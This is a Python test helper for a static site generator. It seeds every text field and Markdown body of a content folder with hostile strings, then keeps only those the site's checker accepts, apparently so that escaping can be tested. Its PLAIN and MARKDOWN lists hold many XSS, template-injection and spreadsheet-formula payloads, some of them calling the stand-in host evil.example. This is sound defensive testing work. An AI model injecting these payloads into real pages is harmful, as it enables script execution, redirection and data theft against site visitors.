"""Hostile strings in every text of a content folder; its fields are found from the model."""

from __future__ import annotations

import datetime
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from random import Random
from typing import Any

import yaml
from loosen.build.build import load_and_check
from loosen.model.author_fields import Field, kind_for_file
from loosen.model.base import Text

TODAY = datetime.date(2026, 12, 1)
RUN = ("window.pwned=1", "alert(1)", "fetch('https://evil.example/')", "location='https://evil.example/'")
PLAIN = (
    '"><img src=x onerror={run}>',
    "'><svg/onload={run}>",
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea></template></noscript><img src=x onerror={run}>",
    "--><img src=x onerror={run}><!--",
    "]]><script>{run}</script>",
    '0;url=https://evil.example" http-equiv="refresh',
    '" autofocus onfocus="{run}" tabindex="0',
    "' onmouseover='{run}' style='position:fixed;inset:0",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<iframe src=javascript:{run}></iframe>",
    "<form action=https://evil.example/><button>x",
    "<a href=javascript:{run}>x</a>",
    "<img\nsrc=x\nonerror={run}>",
    "<img src=x onerror={run} " + "a" * 250 + ">",
    "<math><mtext><img src=x onerror={run}>",
    "<template><script>{run}</script>",
    "&lt;img src=x onerror={run}&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}",
    "[x](javascript:{run})",
    "[x](//evil.example/)",
    "![x](https://evil.example/a.png)",
    "[x]: https://evil.example/\n\n[x]",
    "<https://evil.example/>",
    "x\n~~~\n</p><script>{run}</script>\n~~~",
    "~~~",
    "```",
    "words:nav.home",
    "words:x",
    "{{ {run} }}{% raw %}",
    "${{ {run} }}",
    "%(x)s {0} {x!r} {",
    '=HYPERLINK("https://evil.example/")',
    "`<img src=x onerror={run}>`",
    "*_[<x>](y)_*",
    "\\",
    "::: exercise x",
    "[@x]",
    "&amp;&nbsp;&lt;b&gt;&#x3c;i&#x3e;",
    "'\"`<>&",
)
MARKDOWN = (
    "[x](java&Tab;script:{run})",
    "[x](/safety/)",
    "**a** `b` *c* [d](https://declared.example/)",
    "a\n\n- b\n- c",
    "> [x][y]\n\n> [y]: javascript:{run}",
    "< 4 & \" ' > \\< \\[x\\](javascript:x)",
    "x &lt;img src=x onerror={run}&gt;",
    "[x](&#106;avascript&#58;{run})",
    "| a | b |\n|--:|---|\n| `c` | <d |",
)


@dataclass
class Spread:
    """A content folder in which hostile strings were put."""

    folder: Path
    random: Random
    fields: set[str] = field(default_factory=set)
    """Kind and keys of each text that holds some."""
    data: dict[str, Any] = field(default_factory=dict)
    bodies: dict[str, list[str]] = field(default_factory=dict)

    @property
    def total(self) -> int:
        """How many strings there are."""
        in_fields = sum(sum(_strings_in(data)) for data in self.data.values())
        return in_fields + sum(len(body) - 1 for body in self.bodies.values())

    def strings(self, most: int, *, markdown: bool = False) -> list[str]:
        """Some strings; those for Markdown are Markdown more often."""
        chosen = []
        for _ in range(self.random.randint(1, most)):
            source = MARKDOWN if markdown and self.random.random() < 0.6 else PLAIN
            chosen.append(self.random.choice(source).replace("{run}", self.random.choice(RUN)))
        return chosen

    def text(self, mark: Any) -> tuple[str, int]:
        markdown = isinstance(mark, Text) and mark.markdown
        strings = self.strings(2 if markdown else 40, markdown=markdown)
        between = "\n\n" if markdown else " "
        return f"{between.join(strings)} {self.random.randint(0, 10**9)}", len(strings)


def spread(folder: Path, seed: int) -> Spread:
    """Every text of the folder becomes hostile; what `check` refuses is as it was."""
    made = Spread(folder, Random(seed))
    for path in sorted(folder.rglob("*.yml")) + sorted(folder.rglob("*.md")):
        name = f"{folder.name}/{path.relative_to(folder).as_posix()}"
        text = path.read_text("utf-8")
        if path.suffix == ".md":
            _, front, body = text.split("---\n", 2)
            made.bodies[name] = [body, *made.strings(1000, markdown=True)]
            text = front
        made.data[name] = data = yaml.load(text, yaml.BaseLoader)
        for kind, entity in _entities(name, data):
            made.fields |= {f"{kind.name}/{keys}" for keys in _fill(made, kind.fields, entity, "")}
    _settle(made)
    return made


def expected(folder: Path) -> set[str]:
    """Kind and keys of each text that an entity of the folder may have."""
    found = set()
    for path in [*folder.rglob("*.yml"), *folder.rglob("*.md")]:
        name = f"{folder.name}/{path.relative_to(folder).as_posix()}"
        text = (
            path.read_text("utf-8").split("---\n", 2)[1] if path.suffix == ".md" else path.read_text("utf-8")
        )
        for kind, _ in _entities(name, yaml.load(text, yaml.BaseLoader)):
            found |= {f"{kind.name}/{keys}" for keys in _keys(kind.fields, "")}
    return found


def _keys(fields: tuple[Field, ...], before: str) -> Iterator[str]:
    for one in fields:
        if _is_text(one):
            yield before + one.key
        elif one.value.fields and one.key != "figure":
            yield from _keys(one.value.fields, f"{before}{one.key}/")


def _is_text(one: Field) -> bool:
    return isinstance(one.value.mark, Text) or one.value.type is str


def _entities(name: str, data: dict[str, Any]) -> Iterator[tuple[Any, dict[str, Any]]]:
    kind = kind_for_file(name, data)
    assert kind, name
    for entity in data.values() if kind.listed else [data]:
        yield kind, entity


def _fill(made: Spread, fields: tuple[Field, ...], data: dict[str, Any], before: str) -> Iterator[str]:
    for one in fields:
        if _is_text(one) and one.key not in ("phrases", "last"):
            mark = one.value.mark
            there = data.get(one.key)
            count = max(len(there), 1) if isinstance(there, list) else 1
            new = [_Put(*made.text(mark), data, one.key, there) for _ in range(count)]
            data[one.key] = new if one.value.many else new[0]
            yield before + one.key
        elif one.value.fields and one.key != "figure":
            inner = data.get(one.key)
            if inner is None and all(_is_text(part) for part in one.value.fields if part.required):
                inner = data[one.key] = [{}] if one.value.many else {}
            for part in inner if isinstance(inner, list) else [inner]:
                if isinstance(part, dict):
                    yield from _fill(made, one.value.fields, part, f"{before}{one.key}/")


def _strings_in(value: Any) -> Iterator[int]:
    if isinstance(value, _Put):
        yield value.strings
    elif isinstance(value, dict | list):
        for one in value.values() if isinstance(value, dict) else value:
            yield from _strings_in(one)


class _Put(str):
    """A text that can be taken back."""

    def __new__(cls, text: str, *_: Any) -> _Put:
        return super().__new__(cls, text)

    def __init__(self, _: str, strings: int, owner: dict[str, Any], key: str, before: Any) -> None:
        self.strings = strings
        self.owner, self.key, self.before = owner, key, before

    def take_back(self) -> None:
        if self.before is None:
            self.owner.pop(self.key, None)
        else:
            self.owner[self.key] = self.before


def _settle(made: Spread) -> None:
    """Takes back what `check` says something about, until it says nothing."""
    for _ in range(8):
        lines = {name: _write(made, name) for name in made.data}
        site, report = load_and_check(made.folder, today=TODAY)
        if not report:
            assert site
            return
        for problem in report.diagnostics:
            below = [(line, put) for line, put in lines[problem.place.file] if line <= problem.place.line]
            _, put = below[-1] if below else (0, None)
            if isinstance(put, _Put):
                put.take_back()
            elif isinstance(put, str):
                made.bodies[problem.place.file] = [
                    one for one in made.bodies[problem.place.file] if one is not put
                ]
    raise AssertionError(f"{report}")


def _write(made: Spread, name: str) -> list[tuple[int, Any]]:
    """Writes a file, and says at which line each of our texts begins."""
    rows: list[str] = []
    places: list[tuple[int, Any]] = []
    _dump(made.data[name], "", rows, places)
    path = made.folder.parent / name
    if name in made.bodies:
        rows = ["---", *rows, "---", ""]
        places = [(line + 1, put) for line, put in places]
        for text in made.bodies[name]:
            places.append((len(rows) + 1, text if text is not made.bodies[name][0] else None))
            rows += [*text.split("\n"), ""]
    path.write_text("\n".join(rows) + "\n", "utf-8")
    return places


def _dump(value: Any, indent: str, rows: list[str], places: list[tuple[int, Any]]) -> None:
    items = value.items() if isinstance(value, dict) else ((None, one) for one in value)
    for key, one in items:
        begin = f"{indent}- " if key is None else f"{indent}{key}:"
        if isinstance(one, dict | list):
            rows.append(begin.rstrip() + (" []" if one == [] else " {}" if one == {} else ""))
            _dump(one, f"{indent}  ", rows, places)
        else:
            rows.append(f"{begin} {_quoted(one)}")
            places.append((len(rows), one if isinstance(one, _Put) else None))


def _quoted(text: str) -> str:
    return yaml.dump(str(text), default_style='"', width=10**9, allow_unicode=True).strip()
